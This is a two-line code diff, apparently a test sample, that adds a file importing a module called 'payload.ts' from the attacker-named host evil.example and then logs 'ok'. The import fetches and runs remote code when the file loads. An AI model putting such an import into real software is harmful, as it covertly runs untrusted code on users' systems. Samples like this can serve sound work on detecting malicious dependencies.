@@ -1,0 +1,2 @@
+import 'https://evil.example/payload.ts'
+console.log('ok')
